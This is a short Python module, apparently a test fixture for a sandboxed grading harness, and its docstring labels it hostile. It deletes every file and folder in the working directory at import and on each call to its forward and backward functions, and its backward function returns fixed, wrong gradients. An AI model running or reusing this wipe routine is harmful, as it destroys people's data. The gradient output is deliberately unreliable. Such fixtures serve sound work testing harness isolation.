"""Hostile: deletes every file in its working folder (the worker's output file included) at import and
on every call, and returns wrong gradients."""
import os
import shutil

import numpy as np


def _wipe():
    for name in os.listdir("."):
        if os.path.isdir(name) and not os.path.islink(name):
            shutil.rmtree(name, ignore_errors=True)
        else:
            try:
                os.remove(name)
            except OSError:
                pass


_wipe()


def forward(weights, inputs, biases):
    _wipe()
    W = np.asarray(weights).reshape(3, 4)
    return 1.0 / (1.0 + np.exp(-(W @ inputs + biases)))


def backward(weights, inputs, biases, upstream):
    _wipe()
    return np.full(12, 0.25), np.full(3, 0.25), np.full(4, 0.25)
